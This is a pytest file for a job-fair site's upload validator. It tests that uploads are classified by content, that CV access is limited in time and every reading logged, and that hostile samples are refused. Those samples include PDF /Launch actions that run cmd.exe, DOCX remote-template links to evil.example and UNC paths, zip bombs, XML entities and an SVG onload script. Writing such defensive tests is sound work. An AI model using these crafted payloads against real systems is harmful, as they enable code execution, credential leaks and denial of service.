"""Uploads are checked by content; a CV is read only by those it was shown to, and every reading is recorded."""

import io
import time
import tracemalloc
import uuid
import warnings
import zipfile
import zlib

import pytest
from PIL import Image

from rooms import access
from rooms.core import pdf_actions
from rooms.core.errors import Invalid, NotFound
from rooms.core.uploads import Checked, DocumentKind, Upload, check
from rooms.people import documents
from rooms.people.documents import Document
from rooms.people.people import Person
from server.files import forget, take_in
from tests.cast import Cast

PDF = Upload("cv.pdf", b"%PDF-1.7\n%%EOF\n")


def archive(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as found:
        for name, content in parts.items():
            found.writestr(name, content)
    return out.getvalue()


def picture(side: int, kind: str = "PNG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (side, side), "orange").save(out, kind)
    return out.getvalue()


def packed(how: int, parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as found:
        for name, content in parts.items():
            found.writestr(name, content)
    return out.getvalue()


def film(brand: bytes) -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00" * 64


def lying(parts: dict[str, bytes], name: str) -> bytes:
    """An archive whose directory says that this part is small, whatever it unpacks to."""
    content = bytearray(archive(parts))
    entry = content.rindex(name.encode()) - 46
    content[entry + 24 : entry + 28] = (39).to_bytes(4, "little")
    return bytes(content)


def broken(parts: dict[str, bytes], name: str) -> bytes:
    """An archive in which the packed bytes of this part make no sense."""
    content = bytearray(archive(parts))
    begins = content.index(name.encode()) + len(name)
    content[begins : begins + 8] = b"\xff" * 8
    return bytes(content)


def twice(name: str, times: int) -> bytes:
    """An archive with many parts of one name, of which the last is large."""
    out = io.BytesIO()
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as found:
        for content in [b"<x/>"] * times + [b"<x>" + b"<a/>" * 90_000 + b"</x>"]:
            found.writestr(name, content)
    return out.getvalue()


BOMB = b"0" * 64 * 2**20
DOCX = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}
ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}


WORD_ON_THE_WEB = {
    "[Content_Types].xml": b"<x/>",
    "_rels/.rels": b'<Relationship Type="http://x/officeDocument" Target="/word/document2.xml"/>',
    "word/document2.xml": b"<x/>",
}


TEMPLATE = (
    b'<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
WORDS_OWN = TEMPLATE.replace(
    b"https://evil.example/t.dotm", b"file:///C:\\\\Users\\\\Lea\\\\Templates\\\\Polished%20resume,%20by%20MOO.dotx"
)
"""As Word writes it of its own templates."""
LINK = (
    b'<Relationships><Relationship Id="rId1" Target="https://example.org/" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
)


REMOTE = ("file://evil/t.dotm", "file:////evil/t.dotm", "FILE:///%2fevil/t.dotm", "//evil/t", r"\\evil\t.dotm")


def template_at(where: str) -> bytes:
    return TEMPLATE.replace(b"https://evil.example/t.dotm", where.encode())


ENTITIES = TEMPLATE.replace(b"External", b"&#69;xternal").replace(b"/attachedTemplate", b"&#47;attachedTemplate")
DEFINES = b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"


def pdf(objects: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + objects + b"\nendobj\n%%EOF"


def object_stream(objects: bytes) -> bytes:
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + zlib.compress(objects) + b"\nendstream"


@pytest.mark.parametrize(
    "piece",
    [
        b"/ObjStm>>stream\n",
        b"/ObjStm>>stream\nendstream",
        b"/ObjStm ",
        b"/ObjStm" + b" " * 900,
        b"#4c#61",
        object_stream(b"x"),
        b"/Type " + b" " * 50,
    ],
    ids=range(7),
)
def test_a_pdf_is_gone_through_once_whatever_it_says(piece: bytes) -> None:
    content = piece * (4 * 2**20 // len(piece))
    began = time.process_time()
    assert not pdf_actions.starts_programs(content)
    assert time.process_time() - began < 10


SPELLED = object_stream(b"<< /S/Launch >>").replace(b"ObjStm", b"Obj#53tm")


class Shelf:
    def __init__(self) -> None:
        self.kept: dict[str, bytes] = {}

    async def keep(self, name: str, content: bytes) -> None:
        self.kept[name] = content

    async def forget(self, name: str) -> None:
        del self.kept[name]


@pytest.mark.parametrize(
    ("upload", "media_type"),
    [
        (PDF, "application/pdf"),
        (
            Upload("cv.pdf", pdf(b"/URI (https://example.org/Launch) (CV Product/Launch)")),
            "application/pdf",
        ),
        (Upload("form.pdf", pdf(object_stream(b"<< /S /JavaScript /JS (AFNumber_Format) >>"))), "application/pdf"),
        (
            Upload(
                "Mon CV.docx", archive(DOCX | {"word/_rels/document.xml.rels": LINK, "word/_rels/s.rels": WORDS_OWN})
            ),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (Upload("cv.odt", archive(ODT)), "application/vnd.oasis.opendocument.text"),
        (Upload("cv.docx", archive(ODT)), "application/vnd.oasis.opendocument.text"),
        (Upload("CV", PDF.content), "application/pdf"),  # U4
        (Upload("cv.pdf ", b"\n" + PDF.content), "application/pdf"),
        (
            Upload("cv.docx", archive(WORD_ON_THE_WEB)),  # U2
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (Upload("cv.jpg", picture(400, "JPEG")), "application/pdf"),  # U5
    ],
)
def test_what_it_is_decides_not_what_it_is_called(upload: Upload, media_type: str) -> None:
    assert check(DocumentKind.CV, upload).media_type == media_type


@pytest.mark.parametrize(
    ("kind", "upload", "code"),
    [
        (DocumentKind.CV, Upload("cv.pdf", b""), "document.empty"),
        (DocumentKind.CV, Upload("cv.pdf", b"MZ\x90 %%EOF"), "document.kind"),
        (DocumentKind.CV, Upload("cv.pdf", b"%PDF-1.7" + b"0" * 6 * 2**20 + b"%%EOF"), "document.too_large"),
        (
            DocumentKind.CV,
            Upload("cv.docx", archive({"[Content_Types].xml": b"", "xl/workbook.xml": b""})),
            "document.kind",
        ),
        (DocumentKind.CV, Upload("cv.docx", b"\xd0\xcf\x11\xe0" + b"0" * 600), "document.locked"),  # U5
        (DocumentKind.CV, Upload("cv.heic", film(b"heic")), "document.photo"),
        (DocumentKind.CV, Upload("cv.docx", b"PK\x03\x04 broken"), "document.broken"),
        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/vbaProject.bin": b"x"})), "document.macros"),
        (
            DocumentKind.CV,
            Upload("cv.docx", archive(DOCX | {"word/_rels/settings.xml.rels": TEMPLATE})),
            "document.fetches",
        ),
        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/x.rels": ENTITIES})), "document.fetches"),
        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/X.RELS": TEMPLATE})), "document.fetches"),
        *(
            (
                DocumentKind.CV,
                Upload("cv.docx", archive(DOCX | {"word/x.rels": template_at(where)})),
                "document.fetches",
            )
            for where in REMOTE
        ),
        (DocumentKind.CV, Upload("cv.docx", twice("a.rels", 400)), "document.broken"),
        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/x.rels": DEFINES})), "document.broken"),
        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/x.rels": b" " * 3 * 2**20})), "document.bomb"),
        (DocumentKind.CV, Upload("cv.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")), "document.starts"),  # S17
        (
            DocumentKind.CV,
            Upload("cv.pdf", pdf(SPELLED)),
            "document.starts",
        ),
        (DocumentKind.CV, Upload("cv.pdf", pdf(b"<< /S /L#61unch /F (cmd.exe) >>")), "document.starts"),
        (DocumentKind.CV, Upload("cv.pdf", pdf(object_stream(b"<< /S /Launch /F (cmd.exe) >>"))), "document.starts"),
        (DocumentKind.CV, Upload("cv.pdf", pdf(object_stream(b" " * 9 * 2**20))), "document.starts"),
        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/bomb": b"0" * 70 * 2**20})), "document.bomb"),
        (DocumentKind.CV, Upload("cv.odt", archive(ODT | {f"p{n}": b"" for n in range(2100)})), "document.bomb"),
        (DocumentKind.LOGO, Upload("logo.png", b"<svg onload=alert(1)>"), "document.picture"),
        (DocumentKind.LOGO, Upload("logo.png", picture(5000)), "document.pixels"),
        (DocumentKind.VIDEO, Upload("film.mp4", PDF.content), "document.video"),
        *(
            (DocumentKind.VIDEO, Upload("IMG_0042.HEIC", film(brand)), "document.video")  # U1
            for brand in (b"heic", b"avif", b"mif1", b"M4A ")
        ),
        (DocumentKind.LOGO, Upload("IMG_0042.HEIC", film(b"heic")), "document.picture"),
    ],
)
def test_what_is_not_what_it_should_be_is_refused_by_name(kind: DocumentKind, upload: Upload, code: str) -> None:
    with pytest.raises(Invalid) as caught:
        check(kind, upload)
    assert (caught.value.code, caught.value.field) == (code, "document")


def test_a_logo_is_drawn_anew_small_and_without_what_hid_in_it() -> None:
    checked = check(DocumentKind.LOGO, Upload("../../logo.jpg", picture(1200, "JPEG") + b"<script>"))
    assert (checked.media_type, checked.name) == ("image/png", "logo.png")
    assert b"script" not in checked.content
    with Image.open(io.BytesIO(checked.content)) as drawn:
        assert drawn.size == (512, 512)


def test_a_name_is_only_shown_and_never_a_path() -> None:
    for given, shown in (
        ("..\\..\\etc/Amina <1>.pdf", "Amina 1.pdf"),
        ("cv.pdf.download", "cv.pdf"),
        ("CV", "CV.pdf"),
        ("", "document.pdf"),
        (".pdf", "document.pdf"),
        ("x" * 300 + ".PDF", "x" * 90 + ".pdf"),
    ):
        assert check(DocumentKind.CV, Upload(given, PDF.content)).name == shown


def test_a_photo_of_a_page_becomes_a_document_that_is_the_right_way_up() -> None:  # U5, O14
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6
    Image.new("RGB", (400, 200), "orange").save(out, "JPEG", exif=exif)
    checked = check(DocumentKind.CV, Upload("IMG_1.JPG", out.getvalue()))
    assert (checked.name, checked.content[:5]) == ("IMG_1.pdf", b"%PDF-")
    logo = check(DocumentKind.LOGO, Upload("logo.jpg", out.getvalue()))
    with Image.open(io.BytesIO(logo.content)) as drawn:
        assert drawn.size == (200, 400)


async def show(cast: Cast, shelf: Shelf) -> uuid.UUID:
    """Amina shows a CV."""
    kept: list[uuid.UUID] = []

    async def add(checked: Checked, document_id: uuid.UUID) -> list[uuid.UUID]:
        kept.append(document_id)
        async with cast.database.transaction() as tx:
            return await documents.add_cv(tx, cast.amina, checked, document_id)

    await take_in(shelf, DocumentKind.CV, PDF, add)
    return kept[0]


async def may_read(cast: Cast, person: Person | None, document_id: uuid.UUID) -> bool:
    async with cast.database.reading() as tx:
        try:
            await access.document(tx, cast.actor(person), document_id)
        except NotFound:
            return False
        return True


async def test_a_cv_is_read_from_joining_until_thirty_days_after_the_fair(cast: Cast) -> None:
    shelf = Shelf()
    cv = await show(cast, shelf)
    assert await may_read(cast, cast.amina, cv)
    assert not await may_read(cast, cast.luc, cv)
    await cast.join(cast.amina, cast.atlantique)
    assert await may_read(cast, cast.luc, cv)
    for nosy in (cast.sophie, cast.karim, cast.ines, cast.paul, cast.claire, None):
        assert not await may_read(cast, nosy, cv)
    cast.clock.pass_by(days=30)
    assert await may_read(cast, cast.luc, cv)
    cast.clock.pass_by(days=1)
    assert not await may_read(cast, cast.luc, cv)


async def test_a_withdrawn_cv_is_gone_and_a_new_one_takes_the_place_of_the_old(cast: Cast) -> None:
    shelf = Shelf()
    await cast.join(cast.amina, cast.atlantique)
    ids = [await show(cast, shelf) for _ in range(2)]
    assert list(shelf.kept) == [str(ids[1])]
    assert not await may_read(cast, cast.luc, ids[0])
    async with cast.database.transaction() as tx:
        stale = await documents.withdraw_cv(tx, cast.amina)
    await forget(shelf, stale)
    assert shelf.kept == {}
    assert not await may_read(cast, cast.luc, ids[1])
    assert not await may_read(cast, cast.amina, ids[1])


async def test_every_reading_is_recorded_for_the_person(cast: Cast) -> None:
    cv = await show(cast, Shelf())
    async with cast.database.transaction() as tx:
        await documents.record_reading(tx, await tx.session.get_one(Document, cv), cast.luc)
    async with cast.database.reading() as tx:
        readings = await documents.readings_of(tx, cast.amina.id)
    assert [(at, reader.name) for at, reader in readings] == [(cast.clock.now(), "Luc Moreau")]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (archive({"mimetype": BOMB, "content.xml": b"<x/>"}), "document.bomb"),
        (lying({"mimetype": BOMB, "content.xml": b"<x/>"}, "mimetype"), "document.broken"),
        (packed(zipfile.ZIP_LZMA, {"mimetype": BOMB, "content.xml": b"<x/>"}), "document.bomb"),
        (packed(zipfile.ZIP_BZIP2, ODT), "document.broken"),
        (broken(ODT, "mimetype"), "document.broken"),
        (archive(ODT)[:60] + b"PK\x01\x02" * 100_000, "document.bomb"),
    ],
    ids=["a huge marker", "a marker that lies of its size", "LZMA", "BZIP2", "broken", "a directory without end"],
)
def test_an_archive_costs_no_more_than_its_own_size(content: bytes, code: str) -> None:  # S3
    tracemalloc.start()
    with pytest.raises(Invalid) as refusal:
        check(DocumentKind.CV, Upload("cv.odt", content))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refusal.value.code == code
    assert refusal.value.field == "document"
    assert peak < 8 * 2**20


async def test_an_upload_that_fails_on_the_way_leaves_what_stood_before(cast: Cast) -> None:
    shelf = Shelf()
    await show(cast, shelf)
    before = dict(shelf.kept)

    async def fail(checked: Checked, document_id: uuid.UUID) -> list[uuid.UUID]:
        raise RuntimeError("the database is away")

    with pytest.raises(RuntimeError):
        await take_in(shelf, DocumentKind.CV, PDF, fail)
    assert shelf.kept == before
